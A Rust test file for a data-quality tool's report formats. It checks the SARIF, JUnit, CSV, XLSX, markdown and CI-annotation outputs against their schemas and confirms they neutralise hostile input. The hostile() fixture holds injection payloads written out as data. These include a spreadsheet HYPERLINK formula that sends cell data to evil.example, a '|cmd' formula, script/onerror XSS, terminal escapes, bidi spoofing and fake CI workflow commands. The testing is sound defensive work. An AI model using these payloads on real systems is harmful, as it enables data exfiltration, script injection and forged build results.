//! Reports for programs: each format is what its schema says, whatever texts a suite and data have.

use std::collections::BTreeSet;
use std::fs;
use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx};
use jsonschema::{Registry, Resource};
use passmuster::model::{AuditReport, RuleReport, Status, SuitePlace};
use passmuster::report::{FORMATS, Finished, Look, find, of_extension};
use serde_json::Value;

use crate::support::made::report;
use crate::support::reports::rendered;
use crate::support::repository::root;

/// What could be taken for a command, for markup or for the end of something.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "@SUM(1)|cmd",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\u{1b}]52;c;eA==\u{7}\u{1b}[31mred\u{9b}31m",
        "\u{202e}evil\u{2066}\u{200b}",
        "nul\u{0}fffe\u{fffe}ffff\u{ffff}",
        "]]>",
        "-->",
        "a|b",
        "```\n# heading\n```",
        "line\r\nbreak\n::error::x\n##vso[task.complete result=Succeeded;]\n##[error]y",
        "\"'\\&%;:,}{[]()",
        "1. list\n- item\n+ item",
        "\u{e000}\u{10ffff}😀",
    ]
    .map(str::to_owned)
    .into();
    texts.push(texts.join(" "));
    // Longer than a cell of a spreadsheet.
    texts.push("ệ\u{1b}".repeat(17_000));
    texts
}

/// A result with that text wherever there is one. Ids of rules differ, as they do in every result.
fn with_text(text: &str) -> AuditReport {
    let mut made = report(text);
    for (at, rule) in made.datasets.iter_mut().flat_map(|dataset| &mut dataset.rules).enumerate() {
        rule.id.push_str(&at.to_string());
        rule.fingerprint = Some(format!("{at:064x}"));
    }
    made
}

fn document(format: &str, report: &AuditReport) -> Vec<u8> {
    find(format).expect("registered").render(&Finished::new(report), &Look::default()).expect("written")
}

fn text(format: &str, report: &AuditReport) -> String {
    rendered(format, report, &Look::default())
}

fn json(format: &str, report: &AuditReport) -> Value {
    serde_json::from_str(&text(format, report)).unwrap_or_else(|error| panic!("{format}: {error}"))
}

/// Results of every kind.
fn results() -> Vec<AuditReport> {
    let mut bare = with_text("citizens");
    bare.datasets.clear();
    bare.owners.clear();
    bare.waivers.clear();
    bare.notices.clear();
    bare.digest = None;
    let mut old = with_text("citizens");
    for rule in old.datasets.iter_mut().flat_map(|dataset| &mut dataset.rules) {
        (rule.written, rule.fingerprint, rule.measure_hash) = (None, None, None);
    }
    let mut absolute = with_text("citizens");
    for rule in absolute.datasets.iter_mut().flat_map(|dataset| &mut dataset.rules) {
        rule.written = Some(SuitePlace { file: "/srv/suites/a b.yaml".into(), line: 3 });
    }
    let mut timed = with_text("citizens");
    timed.as_of = "2026-11-01T06:00:00".into();
    let hostile = hostile();
    let hostile = hostile.iter().map(|text| with_text(text));
    [with_text("citizens"), bare, old, absolute, timed].into_iter().chain(hostile).collect()
}

fn schema(path: &str) -> Value {
    serde_json::from_slice(&fs::read(root().join("tests/schemas").join(path)).unwrap()).unwrap()
}

/// Checks a document with the schema, which may refer to others.
fn assert_valid(schema: &Value, others: &[(&str, Value)], document: &Value) {
    let mut registry = Registry::new();
    for (uri, other) in others {
        registry = registry.add(*uri, Resource::from_contents(other.clone())).unwrap();
    }
    let registry = registry.prepare().unwrap();
    let options = jsonschema::options().should_validate_formats(true).with_registry(&registry);
    let validator = options.build(schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(document)
        .map(|error| format!("{}: {}", error.instance_path(), error.to_string().chars().take(300).collect::<String>()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn names_and_ends_of_names_lead_to_one_format() {
    let mut first_ends = BTreeSet::new();
    for format in FORMATS {
        assert!(!format.extensions().is_empty(), "{}", format.name());
        first_ends.insert(format.extensions()[0]);
    }
    for (extension, name) in [
        ("txt", "table"),
        ("JSON", "json"),
        ("ndjson", "ndjson"),
        ("jsonl", "ndjson"),
        ("csv", "csv"),
        ("xlsx", "xlsx"),
        ("md", "markdown"),
        ("xml", "junit"),
        ("sarif", "sarif"),
        ("prom", "openmetrics"),
        ("jsonld", "dqv"),
    ] {
        assert_eq!(of_extension(extension).map(passmuster::report::ReportFormat::name), Some(name));
    }
    assert!(of_extension("pdf").is_none());
}

/// A terminal, a log and a viewer get no text that steers them. JSON has such characters as escapes.
#[test]
fn no_document_of_text_steers_a_terminal() {
    for hostile in hostile() {
        let report = with_text(&hostile);
        for format in FORMATS.iter().filter(|format| format.is_text()) {
            let text = text(format.name(), &report);
            let bad = text.chars().find(|c| {
                c.is_control() && *c != '\n'
                    || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
            });
            assert_eq!(bad, None, "{} {:?}", format.name(), &hostile.chars().take(40).collect::<String>());
            assert!(text.ends_with('\n'), "{}", format.name());
        }
    }
}

#[test]
fn the_same_result_gives_the_same_bytes() {
    let report = report("citizens");
    for format in FORMATS {
        assert!(document(format.name(), &report) == document(format.name(), &report.clone()), "{}", format.name());
    }
}

#[test]
fn sarif_is_its_schema() {
    let schema = schema("sarif/sarif-schema-2.1.0.json");
    for report in results() {
        assert_valid(&schema, &[], &json("sarif", &report));
    }
}

#[test]
fn sarif_points_to_the_suite_and_to_the_data() {
    let sarif = json("sarif", &with_text("citizens"));
    let run = &sarif["runs"][0];
    let results = run["results"].as_array().unwrap();
    // The gate, the dataset that could not be read, and the rules that need attention.
    let levels: Vec<&str> = results.iter().map(|result| result["level"].as_str().unwrap()).collect();
    assert_eq!(
        levels.iter().filter(|level| **level == "error").count(),
        levels.iter().take_while(|level| **level == "error").count()
    );
    let failed = results.iter().find(|result| result["properties"]["status"] == "failed").unwrap();
    let place = &failed["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], "citizens.yaml");
    assert_eq!(place["region"]["startLine"], 12);
    let related = failed["relatedLocations"].as_array().unwrap();
    assert_eq!(related[0]["physicalLocation"]["region"]["startLine"], 14);
    assert_eq!(run["properties"]["failingRecordsLeftOut"].as_u64().map(|left_out| left_out > 1_000), Some(true));
    let index = usize::try_from(failed["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], failed["ruleId"]);
    assert_eq!(failed["fingerprints"]["passmuster/v1"].as_str().unwrap().len(), 64);
    assert_eq!(run["invocations"][0]["executionSuccessful"], false);
}

#[test]
fn code_quality_is_its_schema_and_has_what_gitlab_requires() {
    let schema = schema("gitlab/gitlab-codeclimate.schema.json");
    for report in results() {
        for entry in json("gitlab", &report).as_array().unwrap() {
            assert_valid(&schema, &[], entry);
            for key in ["description", "check_name", "fingerprint"] {
                assert!(!entry[key].as_str().unwrap().is_empty(), "{key}");
            }
            assert!(["info", "minor", "major", "critical", "blocker"].contains(&entry["severity"].as_str().unwrap()));
            assert!(entry["location"]["lines"]["begin"].as_u64().unwrap() > 0);
        }
    }
}

#[test]
fn openlineage_is_its_schema_and_those_of_its_facets() {
    let core = schema("openlineage/OpenLineage.json");
    let facets = [
        ("dataQualityAssertions", schema("openlineage/DataQualityAssertionsDatasetFacet.json")),
        ("dataQualityMetrics", schema("openlineage/DataQualityMetricsInputDatasetFacet.json")),
    ];
    let others = [("https://openlineage.io/spec/2-0-2/OpenLineage.json", core.clone())];
    for report in results() {
        let event = json("openlineage", &report);
        assert_valid(&core, &[], &event);
        for input in event["inputs"].as_array().unwrap() {
            for (name, schema) in &facets {
                assert!(input["inputFacets"][name].is_object());
                assert_valid(schema, &others, &input["inputFacets"]);
            }
        }
    }
}

/// What was not judged is no assertion that holds, and none that fails.
#[test]
fn openlineage_asserts_what_was_judged() {
    let report = report("citizens");
    let event = json("openlineage", &report);
    for (input, dataset) in event["inputs"].as_array().unwrap().iter().zip(&report.datasets) {
        let facet = &input["inputFacets"]["dataQualityAssertions"];
        let count = |status: &[Status]| dataset.rules.iter().filter(|rule| status.contains(&rule.status)).count();
        let asserted = facet["assertions"].as_array().unwrap();
        let success = asserted.iter().filter(|assertion| assertion["success"] == true).count();
        assert_eq!(success, count(&[Status::Passed, Status::Warned]));
        assert_eq!(asserted.len() - success, count(&[Status::Failed, Status::Waived]));
        let others = facet["notAsserted"].as_array().unwrap().len();
        assert_eq!(others, count(&[Status::Errored, Status::NotMeasured, Status::Undecided]));
    }
}

#[test]
fn cyclonedx_is_its_schema() {
    let others = [
        ("http://cyclonedx.org/schema/jsf-0.82.schema.json", schema("cyclonedx/jsf-0.82.schema.json")),
        ("http://cyclonedx.org/schema/spdx.schema.json", schema("cyclonedx/spdx.schema.json")),
    ];
    let schema = schema("cyclonedx/bom-1.6.schema.json");
    for report in results() {
        assert_valid(&schema, &others, &json("cyclonedx", &report));
    }
}

/// The two agree field by field, and a spreadsheet takes no cell for a formula.
#[test]
fn lines_of_json_and_csv_have_the_same_fields() {
    for report in results() {
        let lines: Vec<Value> =
            text("ndjson", &report).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        let rules: usize = report.datasets.iter().map(|dataset| dataset.rules.len().max(1)).sum();
        assert_eq!(lines.len(), rules);
        let csv = document("csv", &report);
        let mut reader = csv::Reader::from_reader(csv.as_slice());
        let header = reader.headers().unwrap().clone();
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), lines.len());
        for (line, record) in lines.iter().zip(&records) {
            let fields = line.as_object().unwrap();
            assert_eq!(
                fields.keys().map(String::as_str).collect::<BTreeSet<_>>(),
                header.iter().collect::<BTreeSet<_>>()
            );
            for (name, cell) in header.iter().zip(record) {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell}");
                match &fields[name] {
                    Value::Null => assert_eq!(cell, "", "{name}"),
                    Value::Number(number) => assert_eq!(cell, number.to_string(), "{name}"),
                    Value::Bool(is) => assert_eq!(cell, is.to_string(), "{name}"),
                    _ => {}
                }
            }
        }
    }
}

/// A dataset that nobody checks, or that could not be read, is not left out.
#[test]
fn a_dataset_without_rules_has_a_line() {
    let mut report = report("citizens");
    report.datasets.iter_mut().for_each(|dataset| dataset.rules.clear());
    let lines: Vec<Value> = text("ndjson", &report).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let found: Vec<_> = lines.iter().map(|line| (line["rule"].clone(), line["status"].as_str().unwrap())).collect();
    assert_eq!(found, [(Value::Null, "errored"), (Value::Null, "not_measured")]);
}

#[test]
fn junit_counts_what_fails_and_what_was_not_judged() {
    for made in results() {
        let text = text("junit", &made);
        let read = quick_junit::Report::deserialize_from_str(&text).unwrap();
        let rules = || made.datasets.iter().flat_map(|dataset| &dataset.rules);
        let failed = rules().filter(|rule| rule.status == Status::Failed).count();
        let errored = rules().filter(|rule| rule.status == Status::Errored).count();
        assert_eq!(read.failures, failed, "the gate could not be judged: it is an error");
        assert_eq!(read.errors, errored + 1 + usize::from(!made.datasets.is_empty()), "with the gate and the dataset");
    }
    let mut by_score = report("citizens");
    by_score.datasets.clear();
    by_score.verdict = passmuster::model::Verdict::Failed;
    let read = quick_junit::Report::deserialize_from_str(&text("junit", &by_score)).unwrap();
    assert_eq!((read.tests, read.failures, read.errors), (1, 1, 0), "a gate can fail where no rule does");
}

#[test]
fn annotations_are_few_and_say_what_is_left_out() {
    let mut report = report("citizens");
    let failed = report.datasets[1].rules.iter().find(|rule| rule.status == Status::Failed).unwrap().clone();
    report.datasets[1].rules = (0..30).map(|at| RuleReport { id: format!("rule-{at}"), ..failed.clone() }).collect();
    let text = text("github", &report);
    assert_eq!(text.lines().filter(|line| line.starts_with("::error ")).count(), 10);
    assert!(text.lines().all(|line| line.starts_with("::")), "{text}");
    assert!(text.lines().last().unwrap().contains("not listed here: 22 errors"), "{text}");
}

#[test]
fn no_text_begins_a_command_of_a_ci_system() {
    for hostile in hostile() {
        let report = with_text(&hostile);
        let known = ["::error ", "::warning ", "::notice "];
        for line in text("github", &report).lines() {
            assert!(known.iter().any(|command| line.starts_with(command)), "{line}");
        }
        for line in text("azure", &report).lines() {
            assert!(line.matches("##").count() <= usize::from(line.starts_with("##vso[task.logissue type=")), "{line}");
        }
    }
}

#[test]
fn a_comment_is_short_and_counts_what_is_left_out() {
    for report in results() {
        let text = text("markdown", &report);
        assert!(text.len() < 64_000, "{}", text.len());
        for bad in ["<script", "<img", "](http", "\n```", "\n# ", "://"] {
            assert!(!text.contains(bad), "{bad}: {text}");
        }
    }
    let many = many(3_000);
    let text = text("markdown", &many);
    assert!(text.len() < 64_000, "{}", text.len());
    let items = text.lines().filter(|line| line.starts_with("- **")).count();
    let more = text.lines().find_map(|line| line.strip_suffix(" more rules that fail the gate")).unwrap();
    let listed =
        text.lines().skip_while(|line| *line != "#### Fails the gate").filter(|line| line.starts_with("- **")).count();
    let more: usize = more.replace(',', "").parse().unwrap();
    assert!(items >= listed && listed > 50, "{listed}");
    assert!(more + listed >= 3_000, "{more} {listed}");
}

/// A result with that many failed rules.
fn many(rules: usize) -> AuditReport {
    let mut report = report("citizens");
    let failed = report.datasets[1].rules.iter().find(|rule| rule.status == Status::Failed).unwrap().clone();
    report.datasets[1].rules = (0..rules)
        .map(|at| RuleReport {
            id: format!("rule-{at}"),
            fingerprint: Some(format!("{at:064x}")),
            fails_gate: true,
            ..failed.clone()
        })
        .collect();
    report
}

#[test]
fn sarif_keeps_the_limits_of_github_and_says_so() {
    let sarif = json("sarif", &many(25_100));
    let run = &sarif["runs"][0];
    assert_eq!(run["results"].as_array().unwrap().len(), 25_000);
    assert_eq!(run["tool"]["driver"]["rules"].as_array().unwrap().len(), 25_000);
    // With the gate and the dataset that could not be read.
    assert_eq!(run["properties"]["resultsLeftOut"], 102);
    let notes = run["invocations"][0]["toolExecutionNotifications"].to_string();
    assert!(notes.contains("102 results left out: a run has at most 25,000"), "{notes}");
}

#[test]
fn every_format_takes_a_hundred_thousand_rules() {
    let report = many(100_000);
    for format in FORMATS {
        let document = document(format.name(), &report);
        assert!(!document.is_empty(), "{}", format.name());
    }
}

#[test]
fn every_format_takes_texts_of_a_megabyte() {
    let mut report = with_text("citizens");
    let long = "x ".repeat(1 << 19);
    report.suite.title = Some(long.clone());
    report.gate.reasons[0].clone_from(&long);
    let failed = report.datasets[1].rules.iter_mut().find(|rule| rule.status == Status::Failed).unwrap();
    (failed.title, failed.fix) = (long.clone(), Some(long));
    for format in FORMATS {
        assert!(!document(format.name(), &report).is_empty(), "{}", format.name());
    }
}

#[test]
fn metrics_are_lines_of_the_text_format() {
    let line = regex::Regex::new(r#"^[a-z_]+\{([a-z_]+="([^"\\]|\\["\\n])*",?)*\} [0-9.]+$"#).unwrap();
    for report in results() {
        let text = text("openmetrics", &report);
        let mut series = BTreeSet::new();
        for sample in text.lines().filter(|line| !line.starts_with("# ")) {
            assert!(line.is_match(sample), "{sample}");
            assert!(series.insert(sample.rsplit_once(' ').unwrap().0.to_owned()), "twice: {sample}");
        }
        assert_eq!(text.lines().last(), Some("# EOF"));
    }
}

#[test]
fn a_workbook_reads_back() {
    for made in results() {
        let document = document("xlsx", &made);
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(document)).unwrap();
        assert_eq!(book.sheet_names(), ["Summary", "Rules", "Columns", "Owners", "Repairs"]);
        let rules = book.worksheet_range("Rules").unwrap();
        let lines = made.datasets.iter().map(|dataset| dataset.rules.len().max(1)).sum::<usize>();
        assert_eq!(rules.rows().count(), lines + 1);
        let header: Vec<String> = rules.rows().next().unwrap().iter().map(ToString::to_string).collect();
        let column = |title: &str| header.iter().position(|known| known == title).unwrap();
        let wanted = made.datasets.iter().flat_map(|dataset| &dataset.rules).find(|rule| rule.status == Status::Failed);
        if let Some(wanted) = wanted {
            let failed = rules.rows().find(|row| row[column("Status")] == Data::String("failed".into())).unwrap();
            #[expect(clippy::cast_precision_loss, reason = "a small count")]
            let count = wanted.failed as f64;
            assert_eq!(failed[column("Failed")], Data::Float(count));
        }
        for name in book.sheet_names() {
            let formulas = book.worksheet_formula(&name).unwrap();
            assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "{name}");
            for (_, _, cell) in book.worksheet_range(&name).unwrap().used_cells() {
                let text = cell.to_string();
                assert!(
                    text.encode_utf16().count() <= 32_767 && !text.contains(['\u{1b}', '\u{202e}', '\0']),
                    "{name}"
                );
            }
        }
    }
}
